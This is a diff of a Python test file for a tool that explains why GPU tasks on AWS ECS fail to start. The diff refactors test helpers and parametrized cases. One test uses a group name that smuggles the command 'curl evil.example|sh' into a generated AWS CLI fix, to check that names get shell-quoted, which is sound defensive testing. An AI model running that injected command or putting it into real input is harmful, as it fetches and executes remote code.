@@ -57,9 +57,24 @@ def of_other_types(**more: Any) -> Answer:
     return cluster(group=group, definition={"placementConstraints": [constraint]})
 
 
-def layers_of(answer: Answer) -> list[Layer]:
+def causes_of(answer: Answer, name: str = "chat") -> list[Cause]:
     found = answers([answer])
-    return [each.layer for each in why(found, subject_called(found, "chat"), region="us-east-1").causes]
+    return list(why(found, subject_called(found, name), region="us-east-1").causes)
+
+
+def of_container(**more: Any) -> Answer:
+    return {"containerDefinitions": [{"name": "chat", "memory": 512, **more}]}
+
+
+def of_gpus(*values: Any) -> Answer:
+    return of_container(resourceRequirements=[{"type": "GPU", "value": each} for each in values])
+
+
+def without(answer: Answer, *names: str) -> Answer:
+    return {key: value for key, value in answer.items() if key not in names}
+
+
+SHARE = of_container(resourceRequirements=[{"type": "GPU", "sharingStrategy": {"nvidiaMps": {"memory": 6144}}}])
 
 
 @pytest.mark.parametrize(
@@ -76,6 +91,7 @@ def layers_of(answer: Answer) -> list[Layer]:
         (cluster(group=FULL), [Layer.GROUP_MAXIMUM, Layer.BUSY]),
         (cluster(), [Layer.BUSY, Layer.STARTING]),
         (cluster(free=("GPU-1",)), [Layer.STARTING]),
+        (cluster(free=("GPU-1",), definition=SHARE), [Layer.STARTING]),
         (cluster(gpus=()), [Layer.GPU_NOT_REGISTERED]),
         (cluster(required=("ecs.capability.efa",)), [Layer.ATTRIBUTE]),
         (cluster(required=("a",), attributes=("a",), free=("GPU-1",)), [Layer.STARTING]),
@@ -84,17 +100,19 @@ def layers_of(answer: Answer) -> list[Layer]:
         (cluster(host={"ec2InstanceId": "i-2"}), [Layer.NOT_JOINED, Layer.BUSY]),
         (cluster(group={"SuspendedProcesses": [{"ProcessName": "Launch"}]}), [Layer.NOT_SCALED, Layer.BUSY]),
         (cluster(definition={"cpu": "8192"}), [Layer.NEVER_FITS]),
+        # No cause is made up where the capacity providers were not described.
+        (without(cluster(), "capacityProviders"), [Layer.BUSY]),
+        (without(cluster(definition=of_gpus("8")), "capacityProviders", "AutoScalingGroups"), [Layer.NEVER_FITS]),
         (of_other_types(), [Layer.STARTING]),
         (of_other_types(**FULL), [Layer.GROUP_MAXIMUM]),
     ],
 )
 def test_each_layer_is_told_from_the_others(answer: Answer, expected: list[Layer]) -> None:
-    assert layers_of(answer) == expected
+    assert [each.layer for each in causes_of(answer)] == expected
 
 
 def test_a_quota_is_named_by_the_code_that_asks_for_more() -> None:
-    found = answers([cluster(activities=(VCPUS,))])
-    cause = why(found, subject_called(found, "chat"), region="us-east-1").causes[0]
+    cause = causes_of(cluster(activities=(VCPUS,)))[0]
     assert "--quota-code L-DB2E81BA " in cause.fix
     assert "current vCPU limit of 32" in cause.text
 
@@ -133,8 +151,7 @@ def test_a_task_that_stopped_says_why() -> None:
         "stoppedReason": "Essential container in task exited",
         "containers": [{"name": "chat", "exitCode": 137, "reason": "OutOfMemoryError"}],
     }
-    found = answers([cluster(), {"tasks": [stopped]}])
-    (cause,) = why(found, subject_called(found, "0ab1"), region=None).causes
+    (cause,) = causes_of({**cluster(), "tasks": [stopped]}, "0ab1")
     assert cause.layer is Layer.STOPPED
     assert cause.text == "1 task stopped: Essential container in task exited; chat: OutOfMemoryError"
 
@@ -171,17 +188,8 @@ def test_tasks_that_a_service_no_longer_wanted_are_no_cause() -> None:
         "Scaling activity initiated by (deployment ecs-svc/1)",
         "Task failed ELB health checks in target-group 1",
     )
-    found = answers([cluster(), {"tasks": [{**stopped, "stoppedReason": each} for each in reasons]}])
-    causes = why(found, subject_called(found, "chat")).causes
+    causes = causes_of({**cluster(), "tasks": [{**stopped, "stoppedReason": each} for each in reasons]})
     assert [each.text for each in causes if each.layer is Layer.STOPPED] == [f"1 task stopped: {reasons[1]}"]
-
-
-def of_container(**more: Any) -> Answer:
-    return {"containerDefinitions": [{"name": "chat", "memory": 512, **more}]}
-
-
-def of_gpus(*values: Any) -> Answer:
-    return of_container(resourceRequirements=[{"type": "GPU", "value": each} for each in values])
 
 
 @pytest.mark.parametrize(
@@ -210,32 +218,9 @@ def test_the_page_has_a_row_for_each_layer_in_its_order() -> None:
     assert re.findall(r"^\| ([^-].*?) \|", table, re.MULTILINE) == [each.value for each in Layer]
 
 
-def test_a_task_with_a_share_of_a_gpu_is_read() -> None:
-    share = [{"type": "GPU", "sharingStrategy": {"nvidiaMps": {"memory": 6144}}}]
-    found = answers([cluster(free=("GPU-1",), definition=of_container(resourceRequirements=share))])
-    assert why(found, subject_called(found, "chat"), region="us-east-1").causes
-
-
-def causes_of(answer: Answer, name: str = "chat") -> list[Cause]:
-    found = answers([answer])
-    return list(why(found, subject_called(found, name), region="us-east-1").causes)
-
-
 def scaled(answer: Answer, **more: Any) -> Answer:
     """The answer with more of its service."""
     return {**answer, "services": [{**answer["services"][0], **more}]}
-
-
-def without(answer: Answer, *names: str) -> Answer:
-    return {key: value for key, value in answer.items() if key not in names}
-
-
-def test_no_cause_is_made_up_where_the_capacity_providers_were_not_described() -> None:
-    answer = without(cluster(), "capacityProviders")
-    assert [each.layer for each in causes_of(answer)] == [Layer.BUSY]
-    eight = of_gpus("8")
-    answer = without(cluster(definition=eight), "capacityProviders", "AutoScalingGroups")
-    assert [each.layer for each in causes_of(answer)] == [Layer.NEVER_FITS]
 
 
 def test_a_provider_that_the_cluster_lacks_is_added_to_those_that_it_has() -> None:
@@ -256,8 +241,7 @@ def test_a_provider_that_the_cluster_lacks_is_added_to_those_that_it_has() -> No
 
 def test_names_in_commands_are_quoted() -> None:
     name = "g; curl evil.example|sh #"
-    answer = json.loads(json.dumps(cluster(group={"SuspendedProcesses": [{"ProcessName": "Launch"}]})))
-    text = json.dumps(answer).replace("gpu-group", name)
+    text = json.dumps(cluster(group={"SuspendedProcesses": [{"ProcessName": "Launch"}]})).replace("gpu-group", name)
     fix = causes_of(json.loads(text))[0].fix
     assert shlex.split(fix)[:5] == ["aws", "autoscaling", "resume-processes", "--auto-scaling-group-name", name]
     assert fix.endswith(" --scaling-processes Launch --region us-east-1")
@@ -282,9 +266,12 @@ def test_a_name_that_is_not_there_is_answered_with_names_like_it(name: str, hint
 def stopped_for(condition: str) -> Answer:
     reason = f"nvidia-container-cli: requirement error: unsatisfied condition: {condition}, please update your driver"
     host = cluster()["containerInstances"][0]["containerInstanceArn"]
-    container = {"name": "chat", "reason": reason}
-    task = {"lastStatus": "STOPPED", "group": "service:chat", "containerInstanceArn": host, "containers": [container]}
-    return {**cluster(group=FULL), "tasks": [task]}
+    return stopped(containerInstanceArn=host, containers=[{"name": "chat", "reason": reason}])
+
+
+def stopped(**more: Any) -> Answer:
+    """A task of the service that stopped, while its group has no more hosts."""
+    return {**cluster(group=FULL), "tasks": [{"lastStatus": "STOPPED", "group": "service:chat", **more}]}
 
 
 @pytest.mark.parametrize(
@@ -309,8 +296,7 @@ def test_a_driver_that_is_too_old_comes_before_a_larger_maximum(condition: str, 
 
 def test_an_image_that_cannot_be_pulled_comes_before_a_larger_maximum() -> None:
     reason = "CannotPullContainerError: pull image manifest has been retried 1 time(s): demo:1: not found"
-    task = {"lastStatus": "STOPPED", "group": "service:chat", "stoppedReason": reason}
-    found = causes_of({**cluster(group=FULL), "tasks": [task]})
+    found = causes_of(stopped(stoppedReason=reason))
     assert [each.layer for each in found] == [Layer.IMAGE, Layer.GROUP_MAXIMUM, Layer.BUSY]
     assert found[0].fix.startswith("the name of the image")
 
